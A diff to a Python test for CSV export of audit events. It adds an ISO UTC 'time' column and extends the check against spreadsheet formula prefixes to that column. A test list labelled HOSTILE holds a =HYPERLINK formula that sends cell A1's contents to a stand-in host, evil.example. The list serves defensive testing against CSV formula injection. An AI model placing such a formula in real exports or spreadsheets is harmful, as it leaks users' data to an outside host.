@@ -15,7 +15,7 @@ from engine.core.audit import AuditEvent, AuditType
 from engine.core.model import Reason
 from engine.core.text import clean, has_control
 from engine.store import Store
-from engine.store.export import CSV_FIELDS, FORMULA_PREFIXES, csv_cell
+from engine.store.export import CSV_FIELDS, FORMULA_PREFIXES, csv_cell, iso_utc
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -61,6 +61,7 @@ def expected(event: AuditEvent) -> dict[str, str]:
             row[field] = clean(quoted)
         else:
             row[field] = str(value)
+    row["time"] = iso_utc(event.at)
     return row
 
 
@@ -79,7 +80,7 @@ def assert_safe(text: str, stored: list[AuditEvent]) -> None:
     rows = list(csv.DictReader(io.StringIO(text)))
     assert rows == [expected(event) for event in stored]
     for row in rows:
-        for field in ("type", "conv", "agent", "reason", "by", "detail", "key"):
+        for field in ("time", "type", "conv", "agent", "reason", "by", "detail", "key"):
             assert not row[field].startswith(FORMULA_PREFIXES), (field, row[field])
 
 
